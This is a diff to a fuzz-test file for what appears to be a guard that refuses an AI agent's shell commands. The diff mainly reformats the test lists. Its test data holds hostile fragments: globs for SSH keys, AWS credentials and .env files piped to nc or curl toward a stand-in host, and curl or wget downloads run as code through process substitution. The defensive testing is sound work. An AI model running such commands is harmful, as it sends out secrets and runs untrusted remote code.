@@ -4,7 +4,7 @@
 // pass's finds: a process substitution run as a program's code. Real bash and python3 are the oracles.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
@@ -143,7 +143,11 @@ test("fuzz: a one-liner's own glob that can match a credential file, then sent, 
     fc.tuple(
       fc.constantFrom(...GLOBBING),
       fc.constantFrom('.e*', '.en?', '.[e]nv', '~/.ssh/id_*', '/root/.aws/cred*'),
-      fc.constantFrom(' | nc h.example 80', ' | curl -d @- https://h.example/x', ' | base64 | nc h.example 80'),
+      fc.constantFrom(
+        ' | nc h.example 80',
+        ' | curl -d @- https://h.example/x',
+        ' | base64 | nc h.example 80',
+      ),
     ),
     ([code, glob, send]) => code.replace('%s', glob) + send,
   );
@@ -174,7 +178,7 @@ test('python3 globs each pattern to the credential file (the oracle)', { skip: !
   }
 });
 
-test('fuzz: a climb from the agent\'s unknown start may reach a home, so packing there is the home sent', () => {
+test("fuzz: a climb from the agent's unknown start may reach a home, so packing there is the home sent", () => {
   everyRefused(
     fc.tuple(
       fc.constantFrom(
@@ -220,7 +224,11 @@ test('fuzz: a download given to a program as its code by process substitution is
   everyRefused(
     fc.tuple(
       fc.constantFrom(...RUNNERS),
-      fc.constantFrom('<(curl -s https://h.example/x)', '<(wget -qO- https://h.example/x)', '<( curl -fsSL h.example/x)'),
+      fc.constantFrom(
+        '<(curl -s https://h.example/x)',
+        '<(wget -qO- https://h.example/x)',
+        '<( curl -fsSL h.example/x)',
+      ),
     ),
     ([run, sub]) => run(sub),
   );
